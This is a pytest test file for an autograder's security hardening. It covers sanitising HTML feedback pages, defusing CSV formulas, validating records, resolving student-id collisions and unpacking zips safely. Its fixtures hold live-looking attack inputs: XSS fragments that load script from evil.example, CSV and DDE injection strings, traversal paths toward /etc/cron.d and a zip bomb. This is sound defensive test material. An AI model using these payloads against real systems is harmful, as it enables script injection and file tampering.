"""One bad submission is one failed record, and reports are data (issue 6).

Units, no kernel: feedback pages rebuilt from an allow-list, CSV cells that are never formulas,
records that hold only known ids and printable text, student ids that never collide silently, zips
unpacked entry by entry, and a runner that turns every per-submission failure (a crash while
planning, a dead worker, a full disk) into that submission's record, with whose failure it is.
Every attack is shown to be present in the input before the test asserts that it got nothing.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import shutil
import stat
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograder import merge, report, results, runner, submissions, worker
from autograder.nbgrader_course import REPO_ROOT, PartScore

v4 = nbformat.v4
POINTS = {"test_affine": 2.0, "test_softmax": 3.0}


# -- HTML helpers: what a browser shows, and what could run -------------------------------------------

class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.elements, self.raw = [], [], None

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.raw = tag if tag in ("script", "style") else self.raw

    def handle_endtag(self, tag):
        self.raw = None if tag == self.raw else self.raw

    def handle_data(self, data):
        if self.raw is None:
            self.text.append(data)


def parse(page: str) -> _Page:
    parsed = _Page()
    parsed.feed(page)
    parsed.close()
    return parsed


def rendered_text(page: str) -> str:
    """What a browser shows of a page: its text nodes outside scripts and styles, joined."""
    return "".join(parse(page).text)


def active_content(page: str) -> list[str]:
    """Everything in a page that could run code or fetch from elsewhere."""
    found = []
    for tag, attrs in parse(page).elements:
        if tag in ("script", "iframe", "object", "embed", "base", "form"):
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            bare = "".join((value or "").split()).lower()
            if name.startswith("on"):
                found.append(f"{tag} {name}")
            elif name in ("href", "src", "xlink:href", "action", "formaction") and (
                    bare.startswith(("javascript:", "vbscript:", "data:text")) or (tag != "a" and "//" in bare)):
                found.append(f"{tag} {name}={value[:40]}")
    return found


def csp(page: str) -> str:
    policies = [a.get("content", "") for t, a in parse(page).elements
                if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    return policies[0] if len(policies) == 1 else ""


# -- feedback pages ---------------------------------------------------------------------------------

HOSTILE_MARKDOWN = ('MARK-MD <script>window.PWNED_MD=1</script> <img src=x onerror="window.PWNED=1"> '
                    '[click](javascript:alert(1)) <a href="jav&#x09;ascript:alert(2)">raw</a> '
                    '<svg><circle onload="alert(3)"/></svg> <iframe src="https://evil.example"></iframe> '
                    '<style>body{display:none}</style> <a href="https://example.org/ok">MARK-LINK</a>')
PNG = "data:image/png;base64,iVBORw0KGgo="


def hostile_notebook() -> nbformat.NotebookNode:
    """Student content in every place a feedback page shows it: markdown, raw cells, outputs, ids."""
    outputs = [
        v4.new_output("display_data", data={"text/html": "<b>MARK-HTML</b><script>window.PWNED_HTML=1</script>"
                                                         "<img src=x onerror=alert(4)>"}),
        v4.new_output("display_data", data={"application/javascript": "window.PWNED_JS=1"}),
        v4.new_output("display_data", data={"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg">'
                                                             "<script>alert(5)</script><text>MARK-SVG</text></svg>"}),
        v4.new_output("display_data", data={"text/markdown": "MARK-MDOUT <img src=x onerror=alert(7)>"}),
        v4.new_output("display_data", data={"image/png": PNG.split(",")[1], "text/plain": "plot"}),
        v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {
            "model_id": "m", "version_major": 2, "version_minor": 0}, "text/plain": "MARK-WIDGET"}),
    ]
    nb = v4.new_notebook(cells=[
        v4.new_markdown_cell(HOSTILE_MARKDOWN),
        v4.new_code_cell("show_everything()", outputs=outputs),
        v4.new_raw_cell("<script>window.PWNED_RAW=1</script>MARK-RAW", metadata={"raw_mimetype": "text/html"}),
        v4.new_code_cell("checks.check_array(Z, expected)", metadata={"nbgrader": {
            "grade": True, "solution": False, "points": 1, "score": 0,
            "grade_id": '"><img src=x onerror=alert(9)>'}}),
    ])
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return nb


@pytest.fixture(scope="module")
def feedback_page() -> str:
    """The hostile notebook rendered as nbgrader renders feedback (its template, on nbconvert's)."""
    import importlib.util

    from nbconvert import HTMLExporter
    from traitlets.config import Config

    formgrader = Path(importlib.util.find_spec("nbgrader").origin).parent / "server_extensions" / "formgrader"
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(formgrader / "templates")]
    config.HTMLExporter.extra_template_paths = [str(formgrader / "static/node_modules/bootstrap/dist/css")]
    resources = {"nbgrader": {"notebook": "nb", "score": 0, "max_score": 1, "late_penalty": 0}}
    page, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook(), resources=resources)
    return page


def test_feedback_shows_student_content_inertly(feedback_page):
    before = active_content(feedback_page)
    for exploit in ("<script>", "img onerror", "a href=javascript:alert(1)", "a href=jav\tascript:alert(2)",
                    "circle onload", "<iframe>"):
        assert any(exploit in found for found in before), f"the unsanitised page should hold {exploit}: {before}"
    assert "window.PWNED_JS=1" in feedback_page and "MathJax" in feedback_page

    page = report.sanitise_html(feedback_page)
    assert active_content(page) == []
    assert page.rindex("<style>") < page.index("</head>"), "the template's CSS only"
    policy = csp(page)
    assert "script-src 'none'" in policy and "default-src 'none'" in policy and "img-src data:" in policy
    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("</head>")
    text = rendered_text(page)
    for visible in ("MARK-MD", "MARK-HTML", "MARK-MDOUT", "MARK-RAW", "MARK-WIDGET", "MARK-LINK",
                    "checks.check_array(Z, expected)", "Test cell"):
        assert visible in text, visible
    kept = parse(page).elements
    assert ("a", {"href": "https://example.org/ok"}) in kept and any(a.get("src") == PNG for _, a in kept)
    assert report.sanitise_html(page) == page, "sanitising is idempotent (merge publishes what a worker wrote)"


@pytest.mark.parametrize("fragment", [
    '<a href=" javascript:alert(1)">x</a>', "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img src="https://tracker.example/p.png">',
    '<div onmouseover="alert(1)" ONCLICK=alert(2)>x</div>', "<script/src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<base href='https://evil.example/'>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", '<a href="x" style="position:fixed;top:0">x</a>',
])
def test_known_xss_vectors_come_out_inert(fragment):
    page = f"<html><head><title>t</title></head><body><p>MARK</p>{fragment}</body></html>"
    clean = report.sanitise_html(page)
    assert active_content(clean) == [] and "style=" not in clean
    assert all(tag in report.TAGS or tag in ("html", "head", "meta", "title", "body", "style")
               for tag, _ in parse(clean).elements)
    assert "MARK" in rendered_text(clean)


def test_maths_becomes_mathml_that_passes_the_allow_list_too():
    """Feedback shows maths offline and without a script: LaTeX in text becomes MathML; in code it stays."""
    page = ("<html><head><title>t</title></head><body><p>The sigmoid $\\sigma(z) = \\frac{1}{1+e^{-z}}$ and"
            " $$\\text{max\\_norm}^2 \\\\[2mm] x$$ cost $5 here.</p>"
            "<p>Broken: $\\frac{1}{$ and a link $\\href{javascript:alert(1)}{x}$</p>"
            "<pre>echo $HOME $x$</pre><code>$y$</code></body></html>")
    clean = report.sanitise_html(page)
    assert clean.count("<math") == 3 and '<math display="block">' in clean and "<mfrac>" in clean
    assert "max_norm" in clean and "max\\_norm" not in clean and "2mm" not in clean
    assert "cost $5 here" in clean and "<pre>echo $HOME $x$</pre><code>$y$</code>" in clean
    assert "href" not in clean and "javascript" not in clean and active_content(clean) == []
    assert "Broken: " in rendered_text(clean)
    assert all(tag in report.TAGS or tag in ("html", "head", "meta", "title", "body") for tag, _ in parse(clean).elements)
    assert report.sanitise_html(clean) == clean


def test_rendered_text_sees_through_highlighting_spans():
    page = ('<pre><span class="n">checks</span><span class="o">.</span><span class="n">check_array</span>'
            '<span class="p">(</span><span class="n">Z</span><span class="p">,</span></pre><script>hidden()</script>')
    assert "checks.check_array(Z," not in page, "the raw markup splits the code"
    assert "checks.check_array(Z," in rendered_text(page) and "hidden" not in rendered_text(page)


# -- CSV and records --------------------------------------------------------------------------------

def job(student="ada", **more) -> dict:
    return {"student": student, "assignment": "01-linear-algebra", "notebook": "01-linear-algebra",
            "sha256": "0" * 64, "points": dict(POINTS), "flags": [], **more}


def test_csv_fields_are_never_formulas(tmp_path):
    record = results.failed(job(), "=HYPERLINK(\"https://evil.example\",\"click\")", 0.0,
                            ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "plain flag"], "student")
    hostile = {"reason": record["reason"], **{f"flag {i}": f for i, f in enumerate(record["flags"])}}
    assert sum(str(v).startswith(report.FORMULA_START) for v in hostile.values()) == 4, "the attack is in the record"
    merge.write_csv(tmp_path / "grades.csv", {"ada": (record, tmp_path)})
    with open(tmp_path / "grades.csv", newline="") as f:
        header, row = list(csv.reader(f))
    assert header[:11] == ["student", "score", "max_score", "late_penalty", "timestamp", "status", "cause", "device",
                           "duration_s", "flags", "reason"]
    assert all(not cell.startswith(report.FORMULA_START) for cell in header + row), row
    assert row[header.index("reason")] == "'" + record["reason"]
    assert row[header.index("cause")] == "student"
    assert [report.csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "1.5", "")] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "1.5", ""]


@pytest.mark.parametrize("change, words", [
    (lambda r: r["parts"].update({'=HYPERLINK("https://evil.example")': {"score": 0.0, "max_score": 1.0}}),
     "bad grade id"),
    (lambda r: r.update(flags=["\x1b[2J\x1b[31mall good"]), "control characters"),
    (lambda r: r.update(reason="line one\nline two"), "control characters"),
    (lambda r: r.update(student="alice\n"), "bad student id"),
    (lambda r: r.update(cause="nobody"), "bad cause"),
    (lambda r: r.pop("cause"), "fields"),
    (lambda r: r.update(notebook="../../../etc/cron.d/x"), "bad assignment or notebook name"),
    (lambda r: r.update(device="=1+1"), "bad device"),
    (lambda r: r.update(duration_s=float("inf")), "bad duration"),
    (lambda r: r.update(timestamp="=1+1"), "bad timestamp"),
    (lambda r: r.update(timestamp="2026-11-01T12:00:00"), "bad timestamp"),  # a time without its zone
    (lambda r: r.update(late_penalty=-1.0), "bad late penalty"),
    (lambda r: r.update(late_penalty=1e9), "bad late penalty"),
])
def test_records_hold_only_known_ids_and_printable_text(change, words):
    record = results.failed(job(), "reason", 1.0, [], "student")
    assert results.validate(record) == record
    change(record)
    with pytest.raises(results.InvalidResult, match=words):
        results.validate(record)


def test_records_are_made_valid_from_hostile_text():
    record = results.failed(job(), "bad\nname \x1b[31m\u202eevil", 0.0, ["\x00flag\r\n"], "student")
    assert results.validate(record)["reason"] == "bad name  [31m evil" and record["flags"] == [" flag  "]


def test_graded_records_hold_exactly_the_assignments_parts():
    scores = {g: PartScore(p, p) for g, p in POINTS.items()}
    assert set(results.graded(job(), scores, 1.0, [])["parts"]) == set(POINTS)
    forged = {**scores, "=HYPERLINK(1)": PartScore(1.0, 1.0)}
    with pytest.raises(ValueError, match="not the assignment's"):
        results.graded(job(), forged, 1.0, [])
    with pytest.raises(ValueError, match="not the assignment's"):
        results.graded(job(), {"test_affine": scores["test_affine"]}, 1.0, [])
    graded = results.graded(job(), scores, 1.0, [])
    assert graded["cause"] == ""
    with pytest.raises(results.InvalidResult, match="bad cause"):
        results.validate({**graded, "cause": "student"})


# -- student ids --------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["+alice", "(victim)", "-", "..", "=1+1", "@x", "a" * 300, "é", "x\udcff",
                                  " spaced name ", "._-+@", "Ada Lovelace", "alice@example.org"])
def test_every_name_gives_a_valid_student_id(name):
    assert results.STUDENT_ID.fullmatch(submissions.student_id(name))


def scratch(tmp_path: Path) -> Path:
    (tmp_path / "scratch").mkdir()
    return tmp_path / "scratch"


def write_notebook(path: Path, marker: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(v4.new_notebook(cells=[v4.new_markdown_cell(marker)]), path)


def marker(found: submissions.Found) -> str:
    return "".join(nbformat.read(p, 4).cells[0].source for p in sorted(found.folder.glob("*.ipynb")))


def test_colliding_ids_are_reported_never_merged(tmp_path):
    folder = tmp_path / "in"
    write_notebook(folder / "victim" / "01-linear-algebra" / "nb.ipynb", "victim's work")
    write_notebook(folder / "(victim)" / "nb.ipynb", "attacker's work")
    write_notebook(folder / "victim_late.ipynb", "a flat notebook")
    write_notebook(folder / "bob_1.ipynb", "bob one")
    write_notebook(folder / "bob_2.ipynb", "bob two")
    squatter = f"victim-dup-{hashlib.sha256(b'(victim)').hexdigest()[:8]}"  # pre-claims the derived id
    write_notebook(folder / squatter / "nb.ipynb", "squatter")
    assert submissions.student_id("(victim)") == "victim", "the collision is real"

    found = submissions.discover(folder, "01-linear-algebra", scratch(tmp_path))
    assert marker(found["victim"]) == "victim's work" and not found["victim"].problem
    assert marker(found[squatter]) == "squatter" and not found[squatter].problem
    others = {f.name: (sid, f) for sid, f in found.items() if sid not in ("victim", squatter)}
    assert set(others) == {"(victim)", "victim_late.ipynb", "bob_1.ipynb", "bob_2.ipynb"}
    for name, (sid, f) in others.items():
        assert results.STUDENT_ID.fullmatch(sid) and "-dup-" in sid
        assert repr(name) in f.problem and "all stand for the student id" in f.problem
    assert "'victim'" in others["(victim)"][1].problem and others["(victim)"][0] != squatter
    assert "bob" not in found, "two notebooks that both claim bob: neither is graded as bob"
    assert len(found) == 6


def test_a_symlinked_entry_is_not_followed(tmp_path):
    secret = tmp_path / "solutions" / "nb.ipynb"
    write_notebook(secret, "the reference solution")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "mallory").symlink_to(secret.parent)
    found = submissions.discover(tmp_path / "in", "01-linear-algebra", scratch(tmp_path))
    assert (tmp_path / "in" / "mallory" / "nb.ipynb").exists(), "the link leads to the solutions"
    assert "symbolic link" in found["mallory"].problem and marker(found["mallory"]) == ""


# -- zips ---------------------------------------------------------------------------------------------

def entry(name: str, data: bytes, mode: int = 0o100644) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info, data


def lie_about(archive: Path, name: str, size: int | None = None, crc: int | None = None) -> None:
    """Rewrite ``name``'s declared size and/or CRC in both of the zip's headers."""
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as zf:
        info = zf.getinfo(name)
    local = info.header_offset
    central = data.index(b"PK\x01\x02")
    while int.from_bytes(data[central + 42:central + 46], "little") != local:  # its central record
        central = data.index(b"PK\x01\x02", central + 4)
    for field, value in ((14, crc), (22, size)):
        if value is not None:
            data[local + field:local + field + 4] = value.to_bytes(4, "little")
            data[central + field + 2:central + field + 6] = value.to_bytes(4, "little")
    archive.write_bytes(bytes(data))


def make_zip(path: Path, entries: list[tuple[zipfile.ZipInfo, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for info, data in entries:
            zf.writestr(info, data)
    return path


def notebook_bytes(text: str) -> bytes:
    return nbformat.writes(v4.new_notebook(cells=[v4.new_markdown_cell(text)])).encode()


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_bad_zip_entries_are_skipped_one_by_one(tmp_path, capsys):
    real = notebook_bytes("x" * 5000)
    archive = make_zip(tmp_path / "download.zip", [
        entry("alice/nb.ipynb", notebook_bytes("alice's work")),
        entry("../escaped.ipynb", b"{}"),
        entry("/etc/absolute.ipynb", b"{}"),
        entry("bob/../../escaped-too.txt", b"{}"),
        entry("bob/nb.ipynb", notebook_bytes("bob's work")),
        entry("carol/nb.ipynb", b"/work/main/solutions/01-linear-algebra/01-linear-algebra.ipynb", 0o120777),
        entry("dave/nb.ipynb", real),
        entry("erin_hw.ipynb", real),
        entry("frank/nb.ipynb", notebook_bytes("frank's work")),
        entry("frank/draft.ipynb", notebook_bytes("frank's draft")),
        entry("frank/nb.ipynb", notebook_bytes("frank's other work")),
    ])
    lie_about(archive, "dave/nb.ipynb", size=100)
    lie_about(archive, "erin_hw.ipynb", crc=12345)
    with zipfile.ZipFile(archive) as zf:
        infos = {i.filename: i for i in zf.infolist()}
        assert infos["dave/nb.ipynb"].file_size == 100 < len(real), "the header lies about the size"
        assert infos["erin_hw.ipynb"].CRC == 12345 != zipfile.crc32(real) & 0xFFFFFFFF
        assert stat.S_ISLNK(infos["carol/nb.ipynb"].external_attr >> 16)
        with pytest.raises(zipfile.BadZipFile):
            zf.extractall(tmp_path / "naive")  # what unpacking used to do

    found = submissions.discover(archive, "01-linear-algebra", scratch(tmp_path))
    assert not list((tmp_path / "scratch").glob("**/escaped*")) and not Path("/etc/absolute.ipynb").exists()
    assert marker(found["alice"]) == "alice's work" and not found["alice"].problem and not found["alice"].flags
    assert marker(found["bob"]) == "bob's work" and not found["bob"].problem
    assert any("'bob/../../escaped-too.txt' was skipped: its path leads outside" in f for f in found["bob"].flags)
    assert "'frank/nb.ipynb' was skipped: another entry has the same path" in found["frank"].problem
    assert "carol/nb.ipynb' was skipped: it is a symbolic link" in found["carol"].problem
    assert "dave/nb.ipynb' was skipped: its data does not match its header" in found["dave"].problem
    assert "erin_hw.ipynb' was skipped: its data does not match its header" in found["erin"].problem
    assert not list((tmp_path / "scratch").glob("unzipped-*/dave/*")), "no partial file is left"
    warnings = capsys.readouterr().err
    assert "'../escaped.ipynb' was skipped: its path leads outside" in warnings
    assert "'/etc/absolute.ipynb' was skipped: its path is absolute" in warnings
    assert set(found) == {"alice", "bob", "carol", "dave", "erin", "frank"}


def test_zip_sizes_are_capped_while_unpacking(tmp_path, monkeypatch):
    monkeypatch.setattr(submissions, "MAX_ENTRY_BYTES", 4000)
    monkeypatch.setattr(submissions, "MAX_ZIP_BYTES", 10_000)
    bomb = b"0" * 1_000_000
    archive = make_zip(tmp_path / "a.zip", [entry("bomb/x", bomb)] + [entry(f"s{i}/x", b"1" * 3000) for i in range(4)])
    lie_about(archive, "bomb/x", size=3000)  # the header claims it fits; zipfile stops at 3000 and fails the CRC
    archive2 = make_zip(tmp_path / "b.zip", [entry("bomb/x", bomb)])
    assert (tmp_path / "b.zip").stat().st_size < 10_000 < len(bomb), "a real zip bomb"
    skipped = submissions.extract_zip(archive2, tmp_path / "out2")
    assert skipped == {"bomb/x": "it unpacks to more than 4000 bytes"}
    assert not (tmp_path / "out2" / "bomb" / "x").exists()
    skipped = submissions.extract_zip(archive, tmp_path / "out")
    assert "does not match its header" in skipped.pop("bomb/x")
    assert skipped == {"s3/x": "the archive unpacks to more than 10000 bytes in all"}
    assert [(tmp_path / "out" / f"s{i}" / "x").stat().st_size for i in range(3)] == [3000] * 3


def test_a_zip_that_is_not_one_is_a_clear_error(tmp_path):
    (tmp_path / "x.zip").write_bytes(b"not a zip")
    with pytest.raises(ValueError, match="not a readable zip archive"):
        submissions.discover(tmp_path / "x.zip", "a", tmp_path)


# -- the runner: every per-submission failure is that submission's record ----------------------------

def fake_worker(tmp_path: Path, script: str) -> runner.Worker:
    """A Worker whose process is ``script`` (reading the job's path on stdin), not the real grader."""
    slot = runner.Worker(tmp_path / "log", tmp_path / "results")
    slot.process = subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                    text=True, start_new_session=True)
    return slot


@pytest.mark.parametrize("script, cause, words", [
    ("import sys; sys.stdin.readline(); sys.exit(3)", "grader", "worker crashed (exit 3)"),
    ("import sys; sys.stdin.readline(); print('done', flush=True); sys.stdin.readline()", "grader",
     "worker left no valid result"),
    ("import sys, time; sys.stdin.readline(); time.sleep(60)", "student", "longer than the 1 s limit"),
])
def test_a_worker_that_dies_or_hangs_costs_its_submission_only(tmp_path, script, cause, words):
    (tmp_path / "work").mkdir()
    stale = results.write(tmp_path / "results", results.failed(job(), "an old failure", 0.0, [], "grader"))
    slot = fake_worker(tmp_path, script)
    try:
        record = slot.grade(job(work=str(tmp_path / "work"), results=str(tmp_path / "results")), timeout=1)
    finally:
        slot.stop()
    assert (record["status"], record["cause"]) == ("failed", cause) and words in record["reason"]
    assert results.load(stale) == record


def test_a_full_disk_never_crashes_the_run(tmp_path, monkeypatch, capsys):
    def full(folder, record):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(results, "write", full)
    record = runner.settle(tmp_path, results.failed(job(), "x", 0.0, [], "student"))
    assert record["reason"] == "x" and "could not write the result of ada" in capsys.readouterr().err
    assert runner.up_to_date(tmp_path, "ada", "0" * 64) is None, "the next run grades it again"

    def crash(slot, job):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(worker.Slot, "grade", crash)
    worker.grade_and_write(worker.Slot(), job(results=str(tmp_path)))  # neither grading nor writing may raise
    assert "OSError" in capsys.readouterr().err


def test_an_exception_in_grading_is_the_graders_failure(tmp_path, monkeypatch):
    def broken(slot, job):
        raise RuntimeError("nbgrader internal error")

    monkeypatch.setattr(worker.Slot, "grade", broken)
    worker.grade_and_write(worker.Slot(), job(results=str(tmp_path)))
    record = results.load(tmp_path / "ada.json")
    assert record["cause"] == "grader" and "nbgrader internal error" in record["reason"]


def test_up_to_date_retries_only_the_graders_failures(tmp_path):
    for student, cause in (("ada", "student"), ("bob", "grader")):
        results.write(tmp_path, results.failed(job(student), "why", 0.0, [], cause))
    assert runner.up_to_date(tmp_path, "ada", "0" * 64)["cause"] == "student"
    assert runner.up_to_date(tmp_path, "ada", "1" * 64) is None, "changed files are graded again"
    assert runner.up_to_date(tmp_path, "bob", "0" * 64) is None
    assert runner.up_to_date(tmp_path, "carol", "0" * 64) is None


@pytest.fixture
def stub_course(tmp_path, monkeypatch):
    """A batch with no nbgrader in it: a stub template, and Worker.grade replaced by ``graded``."""
    shutil.copy(REPO_ROOT / "nbgrader_config.py", tmp_path)  # where LMS-style folders are kept (build/submitted)
    monkeypatch.setattr(runner, "prepare_template", lambda settings, scratch: (tmp_path, "nb", dict(POINTS)))
    monkeypatch.setattr(runner.Worker, "start", lambda self: None)
    folder = tmp_path / "in"
    for student in ("ada", "deep", "full", "grace"):
        write_notebook(folder / student / "nb.ipynb", student)
    (folder / "broken").mkdir()
    (folder / "broken" / "nb.ipynb").write_text("{not json")
    prepare = submissions.prepare

    def crashing_prepare(student, found, notebook, dest):
        if student == "deep":
            raise RecursionError("maximum recursion depth exceeded")
        return prepare(student, found, notebook, dest)

    def fake_grade(self, job, timeout):
        if job["student"] == "full":
            raise OSError(errno.ENOSPC, "No space left on device")
        scores = {g: PartScore(p, p) for g, p in POINTS.items()}
        return runner.settle(Path(job["results"]), results.graded(job, scores, 1.0, job["flags"]))

    monkeypatch.setattr(runner.submissions, "prepare", crashing_prepare)
    monkeypatch.setattr(runner.Worker, "grade", fake_grade)
    return runner.Settings(course=tmp_path, assignment="a", submissions=folder, results=tmp_path / "results",
                           workers=2, sandbox=False)


def test_one_bad_submission_is_one_failed_record(stub_course, tmp_path):
    records = runner.grade(stub_course)
    assert set(records) == {"ada", "broken", "deep", "full", "grace"}
    assert {s: (r["status"], r["cause"]) for s, r in records.items()} == {
        "ada": ("graded", ""), "grace": ("graded", ""), "broken": ("failed", "student"),
        "deep": ("failed", "grader"), "full": ("failed", "grader")}
    assert "RecursionError" in records["deep"]["reason"] and "No space left" in records["full"]["reason"]
    assert "not a readable notebook" in records["broken"]["reason"]
    assert records == {s: results.load(tmp_path / "results" / f"{s}.json") for s in records}

    (tmp_path / "again").mkdir()
    standing, jobs = runner.plan_jobs(stub_course, tmp_path / "again", tmp_path / "ipc")
    assert set(standing) == {"ada", "broken", "grace"} and {j["student"] for j in jobs} == {"deep", "full"}
